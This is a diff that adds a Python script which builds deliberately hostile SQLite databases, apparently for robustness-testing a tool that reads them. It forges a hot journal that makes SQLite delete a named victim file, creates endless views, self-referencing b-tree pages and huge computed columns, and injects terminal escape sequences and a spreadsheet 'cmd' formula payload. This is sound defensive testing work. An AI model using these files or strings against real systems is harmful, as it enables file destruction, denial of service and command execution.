@@ -1,0 +1,125 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0
+"""Makes a database that attacks who opens it, out of a sound one.
+
+Usage: make-hostile-db.py KIND SOUND OUT [VICTIM]
+  journal   OUT-journal is hot, and names VICTIM as what SQLite is to remove
+  wal       OUT is in WAL mode, and part of it is in OUT-wal
+  view      TABLE=name: that table is a view that never ends
+  generated a table has a column that is computed
+  trigger   each insertion into snapshot would insert without an end
+  last-id   the last snapshot has the largest id that there is
+  again     TABLE=name: the pages of that table are read over and over
+  text      strings have escapes, line breaks and formulas in them
+"""
+import os
+import shutil
+import sqlite3
+import struct
+import sys
+
+kind, sound, out = sys.argv[1:4]
+table = os.environ.get("TABLE", "row")
+for name in (out, out + "-journal", out + "-wal", out + "-shm"):
+    if os.path.lexists(name):
+        os.remove(name)
+shutil.copy(sound, out)
+
+
+def script(sql):
+    db = sqlite3.connect(out)
+    db.executescript(sql)
+    db.close()
+
+
+def columns(name):
+    db = sqlite3.connect(out)
+    found = [row[1] for row in db.execute(f"PRAGMA table_info({name})")]
+    db.close()
+    return found
+
+
+script("PRAGMA journal_mode = DELETE")
+if kind == "journal":
+    with open(out, "rb") as file:
+        page = struct.unpack(">H", file.read(18)[16:])[0]
+    size = os.path.getsize(out) // page
+    victim = sys.argv[4].encode()
+    magic = bytes.fromhex("d9d505f920a163d7")
+    with open(out + "-journal", "wb") as file:
+        file.write((magic + struct.pack(">IIIII", 0, 1, size, 512, page)).ljust(512, b"\0"))
+        file.write(struct.pack(">I", 0x40000000 // page + 1) + victim +
+                   struct.pack(">II", len(victim), sum(victim) & 0xffffffff) + magic)
+elif kind == "wal":
+    db = sqlite3.connect(out)
+    db.executescript("PRAGMA journal_mode = WAL; PRAGMA wal_autocheckpoint = 0;"
+                     "INSERT INTO meta VALUES ('more', 'text')")
+    for end in "", "-wal":
+        shutil.copy(out + end, out + end + ".copy")
+    db.close()
+    for end in "", "-wal":
+        os.rename(out + end + ".copy", out + end)
+elif kind == "view":
+    names = columns(table)
+    script(f"DROP TABLE {table}; CREATE VIEW {table} AS WITH RECURSIVE r(n) AS"
+           f" (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT "
+           + ", ".join(f"n AS {name}" for name in names) + " FROM r")
+elif kind == "generated":
+    script(f"ALTER TABLE {table} ADD COLUMN more GENERATED ALWAYS AS (hex(zeroblob(400000000)))")
+elif kind == "trigger":
+    script("PRAGMA recursive_triggers = ON; CREATE TRIGGER more AFTER INSERT ON snapshot BEGIN"
+           " DELETE FROM row; END")
+elif kind == "last-id":
+    script("UPDATE snapshot SET id = 9223372036854775807 WHERE id = (SELECT max(id) FROM snapshot)")
+elif kind == "again":
+    # A page of 100 pointers to itself one level down, eight levels deep: 10^16 rows.
+    db = sqlite3.connect(out)
+    page = db.execute("PRAGMA page_size").fetchone()[0]
+    root = db.execute("SELECT rootpage FROM sqlite_master WHERE name = ? AND type = 'table'",
+                      (table,)).fetchone()[0]
+    db.close()
+    with open(out, "r+b") as file:
+        file.seek((root - 1) * page)
+        leaf = file.read(page)
+        index = leaf[0] in (2, 10)
+        last = os.path.getsize(out) // page
+
+        def interior(child):
+            fan = 100 if not index else 1
+            body, at, cells = b"", page, []
+            for _ in range(fan):
+                cell = struct.pack(">I", child) + (b"\x81\x01" if not index else b"\x03\x01\x00\x00")
+                at -= len(cell)
+                cells.append(at)
+                body = cell + body
+            head = struct.pack(">BHHHBI", 2 if index else 5, 0, fan, at, 0, child)
+            head += b"".join(struct.pack(">H", cell) for cell in cells)
+            return head + b"\0" * (page - len(head) - len(body)) + body
+
+        def write(number, data):
+            file.seek((number - 1) * page)
+            file.write(data)
+
+        last += 1
+        write(last, leaf)
+        child = last
+        for _ in range(7):
+            last += 1
+            write(last, interior(child))
+            child = last
+        write(root, interior(child))
+        file.seek(28)
+        file.write(struct.pack(">I", last))
+elif kind == "text":
+    bad = "x\x1b]0;t\x07\x1b[2J\u009b31m\u202e\n=cmd|' /C calc'!A0,\"y;z"
+    db = sqlite3.connect(out)
+    for name, column in (("site", "file"), ("site", "func"), ("site", "module")):
+        db.execute(f"UPDATE {name} SET {column} = ? || id WHERE id % 2", (bad,))
+    if "kernel" in [row[0] for row in db.execute("SELECT key FROM meta")]:
+        db.execute("UPDATE meta SET value = ? WHERE key = 'kernel'", (bad,))
+    if "name" in columns("host"):
+        db.execute("UPDATE host SET name = ? || id", (bad,))
+    db.commit()
+    db.close()
+else:
+    sys.exit(f"no kind is called {kind}")
